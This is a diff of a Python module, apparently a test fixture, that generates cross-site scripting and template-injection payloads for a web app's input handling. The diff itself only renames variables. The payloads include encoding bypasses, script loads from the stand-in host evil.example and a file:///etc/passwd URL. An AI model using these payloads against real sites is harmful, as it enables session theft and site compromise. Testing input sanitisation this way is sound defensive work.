@@ -1,11 +1,11 @@
-"""What people write who want a browser to do their will: markup, addresses, templates."""
+"""Injection payloads: markup, URLs and templates."""
 
 from collections.abc import Iterator
 from itertools import product
 
-_DO = "alert(1)"
-_ELSEWHERE = "//evil.example/x"
-_HANDLED = {
+_JS = "alert(1)"
+_FOREIGN_URL = "//evil.example/x"
+_EVENT_HANDLERS = {
     "img src=x": ("onerror", "onload", "onclick", "onmouseover"),
     "svg": ("onload", "onfocus", "onbegin"),
     "body": ("onload", "onpageshow", "onresize", "onhashchange"),
@@ -22,23 +22,23 @@ _HANDLED = {
     "select autofocus": ("onfocus",),
     "dialog open": ("onclose", "oncancel"),
 }
-_LEAVING = ("", '">', "'>", "-->", "</div>", "</bdi></span>", "</script>", "</textarea>")
+_CLOSINGS = ("", '">', "'>", "-->", "</div>", "</bdi></span>", "</script>", "</textarea>")
 _SCHEMES = (
-    f"javascript:{_DO}",
-    f"JaVaScRiPt:{_DO}",
-    f"java\tscript:{_DO}",
-    f"java&#10;script:{_DO}",
-    f"&#106;avascript:{_DO}",
-    f"\x01javascript:{_DO}",
-    f"javascript://a.example/%0a{_DO}",
-    f"javascript:https://a.example/;{_DO}",
-    f"data:text/html,<script>{_DO}</script>",
-    f"vbscript:{_DO}",
+    f"javascript:{_JS}",
+    f"JaVaScRiPt:{_JS}",
+    f"java\tscript:{_JS}",
+    f"java&#10;script:{_JS}",
+    f"&#106;avascript:{_JS}",
+    f"\x01javascript:{_JS}",
+    f"javascript://a.example/%0a{_JS}",
+    f"javascript:https://a.example/;{_JS}",
+    f"data:text/html,<script>{_JS}</script>",
+    f"vbscript:{_JS}",
     "blob:x",
     "file:///etc/passwd",
-    _ELSEWHERE,
+    _FOREIGN_URL,
 )
-_LEADING = (
+_URL_TEMPLATES = (
     '<a href="{}">x</a>',
     "<a href={}>x",
     '<iframe src="{}"></iframe>',
@@ -54,73 +54,73 @@ _LEADING = (
     "{}",
     "https://a.example/#{}",
 )
-_WHOLE = (
-    f"<script>{_DO}</script>",
-    f"<ScRiPt>{_DO}</sCrIpT>",
-    f"<script src={_ELSEWHERE}></script>",
-    f"<scr<script>ipt>{_DO}</scr</script>ipt>",
-    f"<script\x0c>{_DO}</script\n>",
-    f"<script type=module>import '{_ELSEWHERE}'</script>",
-    f"<svg><script>{_DO}</script></svg>",
-    f"<svg><script href={_ELSEWHERE} /></svg>",
-    f"<math><mtext><table><mglyph><style><img src=x onerror={_DO}>",
-    f"<noscript><p title='</noscript><img src=x onerror={_DO}>'>",
-    f"<template><img src=x onerror={_DO}></template>",
-    f"<textarea><img title='</textarea><img src=x onerror={_DO}>'>",
-    f"<!--><img src=x onerror={_DO}>-->",
-    f"<![CDATA[<img src=x onerror={_DO}>]]>",
-    f"<?xml?><img src=x onerror={_DO}>",
-    f"<img src=x onerror={_DO}//",
-    f"<img/src=x/onerror={_DO}>",
-    f"<img src=x\nonerror\n=\n{_DO}\n>",
-    f'<img src="x` `<script>{_DO}</script>"` `>',
-    f"<img src=x:x onerror=\u2028{_DO}>",
-    f"<iframe srcdoc='<script>parent.{_DO}</script>'>",
-    f"<link rel=stylesheet href={_ELSEWHERE}.css>",
-    f"<link rel=import href={_ELSEWHERE}>",
-    f"<style>@import '{_ELSEWHERE}.css';</style>",
-    f"<style>*{{background:url({_ELSEWHERE}.png)}}</style>",
-    f"<p style='background:url({_ELSEWHERE}.png)'>x</p>",
-    f'" style="background:url({_ELSEWHERE}.png)',
-    f"<img src={_ELSEWHERE}.png>",
-    f"<img srcset='{_ELSEWHERE}.png 2x'>",
-    f"<video poster={_ELSEWHERE}.png>",
-    f"<svg><image href={_ELSEWHERE}.svg /></svg>",
-    f"<svg><use href='data:image/svg+xml,<svg onload={_DO}>#x'/></svg>",
-    f"<svg><animate attributeName=href values=javascript:{_DO} /></svg>",
-    f"<svg><set attributeName=onmouseover to={_DO}>",
-    f"<audio src={_ELSEWHERE}.ogg autoplay>",
-    f"<div is=nicegui-screen onclick={_DO}>",
-    f"<x-y onclick={_DO} tabindex=0 autofocus onfocus={_DO}>",
-    f"{{{{constructor.constructor('{_DO}')()}}}}",
-    f"{{{{_openBlock.constructor('{_DO}')()}}}}",
-    f"{{{{$emit.constructor`{_DO}`()}}}}",
-    f"${{{_DO}}}",
-    f"`${{{_DO}}}`",
-    f"#{{{_DO}}}",
-    f"<%= {_DO} %>",
-    f"[[{_DO}]]",
-    f"<div v-html=\"'<img src=x onerror={_DO}>'\"></div>",
-    f'<div v-on:click="{_DO}" @mouseover="{_DO}" :onload="{_DO}">',
-    f"';{_DO}//",
-    f'";{_DO}//',
-    f"\\';{_DO}//",
-    f"</script><script>{_DO}</script>",
-    f"'-{_DO}-'",
-    f'"-{_DO}-"',
-    f"*/{_DO}/*",
-    f"\u2028{_DO}",
-    f"<!--<script>{_DO}",
-    f"%3Cscript%3E{_DO}%3C/script%3E",
-    f"&lt;script&gt;{_DO}&lt;/script&gt;",
-    f"&#60;img src=x onerror={_DO}&#62;",
-    f"\\u003cimg src=x onerror={_DO}\\u003e",
-    f"\\x3cimg src=x onerror={_DO}\\x3e",
-    f"\uff1cimg src=x onerror={_DO}\uff1e",
-    f"\u02bb><img src=x onerror={_DO}>",
-    f"<\u0131mg src=x onerror={_DO}>",
-    f"<img src=x onerror={_DO}>" * 3,
-    f"<form id=socket><input name=emit></form><a id=app name=innerHTML href=javascript:{_DO}>x</a>",
+_COMPLETE = (
+    f"<script>{_JS}</script>",
+    f"<ScRiPt>{_JS}</sCrIpT>",
+    f"<script src={_FOREIGN_URL}></script>",
+    f"<scr<script>ipt>{_JS}</scr</script>ipt>",
+    f"<script\x0c>{_JS}</script\n>",
+    f"<script type=module>import '{_FOREIGN_URL}'</script>",
+    f"<svg><script>{_JS}</script></svg>",
+    f"<svg><script href={_FOREIGN_URL} /></svg>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={_JS}>",
+    f"<noscript><p title='</noscript><img src=x onerror={_JS}>'>",
+    f"<template><img src=x onerror={_JS}></template>",
+    f"<textarea><img title='</textarea><img src=x onerror={_JS}>'>",
+    f"<!--><img src=x onerror={_JS}>-->",
+    f"<![CDATA[<img src=x onerror={_JS}>]]>",
+    f"<?xml?><img src=x onerror={_JS}>",
+    f"<img src=x onerror={_JS}//",
+    f"<img/src=x/onerror={_JS}>",
+    f"<img src=x\nonerror\n=\n{_JS}\n>",
+    f'<img src="x` `<script>{_JS}</script>"` `>',
+    f"<img src=x:x onerror=\u2028{_JS}>",
+    f"<iframe srcdoc='<script>parent.{_JS}</script>'>",
+    f"<link rel=stylesheet href={_FOREIGN_URL}.css>",
+    f"<link rel=import href={_FOREIGN_URL}>",
+    f"<style>@import '{_FOREIGN_URL}.css';</style>",
+    f"<style>*{{background:url({_FOREIGN_URL}.png)}}</style>",
+    f"<p style='background:url({_FOREIGN_URL}.png)'>x</p>",
+    f'" style="background:url({_FOREIGN_URL}.png)',
+    f"<img src={_FOREIGN_URL}.png>",
+    f"<img srcset='{_FOREIGN_URL}.png 2x'>",
+    f"<video poster={_FOREIGN_URL}.png>",
+    f"<svg><image href={_FOREIGN_URL}.svg /></svg>",
+    f"<svg><use href='data:image/svg+xml,<svg onload={_JS}>#x'/></svg>",
+    f"<svg><animate attributeName=href values=javascript:{_JS} /></svg>",
+    f"<svg><set attributeName=onmouseover to={_JS}>",
+    f"<audio src={_FOREIGN_URL}.ogg autoplay>",
+    f"<div is=nicegui-screen onclick={_JS}>",
+    f"<x-y onclick={_JS} tabindex=0 autofocus onfocus={_JS}>",
+    f"{{{{constructor.constructor('{_JS}')()}}}}",
+    f"{{{{_openBlock.constructor('{_JS}')()}}}}",
+    f"{{{{$emit.constructor`{_JS}`()}}}}",
+    f"${{{_JS}}}",
+    f"`${{{_JS}}}`",
+    f"#{{{_JS}}}",
+    f"<%= {_JS} %>",
+    f"[[{_JS}]]",
+    f"<div v-html=\"'<img src=x onerror={_JS}>'\"></div>",
+    f'<div v-on:click="{_JS}" @mouseover="{_JS}" :onload="{_JS}">',
+    f"';{_JS}//",
+    f'";{_JS}//',
+    f"\\';{_JS}//",
+    f"</script><script>{_JS}</script>",
+    f"'-{_JS}-'",
+    f'"-{_JS}-"',
+    f"*/{_JS}/*",
+    f"\u2028{_JS}",
+    f"<!--<script>{_JS}",
+    f"%3Cscript%3E{_JS}%3C/script%3E",
+    f"&lt;script&gt;{_JS}&lt;/script&gt;",
+    f"&#60;img src=x onerror={_JS}&#62;",
+    f"\\u003cimg src=x onerror={_JS}\\u003e",
+    f"\\x3cimg src=x onerror={_JS}\\x3e",
+    f"\uff1cimg src=x onerror={_JS}\uff1e",
+    f"\u02bb><img src=x onerror={_JS}>",
+    f"<\u0131mg src=x onerror={_JS}>",
+    f"<img src=x onerror={_JS}>" * 3,
+    f"<form id=socket><input name=emit></form><a id=app name=innerHTML href=javascript:{_JS}>x</a>",
     "<img name=getElementById><form name=querySelector>",
     "<input form=x name=nickname><label for=c1>x</label>",
     '" data-calls="burn" x="',
@@ -143,19 +143,19 @@ _WHOLE = (
 
 
 def _all() -> Iterator[str]:
-    for leave, (tag, handlers) in product(_LEAVING, _HANDLED.items()):
-        handler = handlers[len(leave) % len(handlers)]
-        yield f"{leave}<{tag} {handler}={_DO}>"
-    for tag, handlers in _HANDLED.items():
+    for closing, (tag, handlers) in product(_CLOSINGS, _EVENT_HANDLERS.items()):
+        handler = handlers[len(closing) % len(handlers)]
+        yield f"{closing}<{tag} {handler}={_JS}>"
+    for tag, handlers in _EVENT_HANDLERS.items():
         for handler in handlers:
-            yield f"<{tag}/{handler.upper()}='{_DO}'/>"
-    for scheme, leading in product(_SCHEMES, _LEADING):
-        yield leading.format(scheme)
-    yield from _WHOLE
+            yield f"<{tag}/{handler.upper()}='{_JS}'/>"
+    for scheme, template in product(_SCHEMES, _URL_TEMPLATES):
+        yield template.format(scheme)
+    yield from _COMPLETE
 
 
 PAYLOADS = list(dict.fromkeys(_all()))
-"""Each of them once."""
+"""All payloads, without duplicates."""
 
 NAMES = [text for text in PAYLOADS if len(text) <= 24] + [
     "<svg onload=alert(1)>",
@@ -167,4 +167,4 @@ NAMES = [text for text in PAYLOADS if len(text) <= 24] + [
     "<base href=//a.b>",
     "<s id=app>",
 ]
-"""Those that a nickname has room for."""
+"""Payloads short enough for a nickname."""
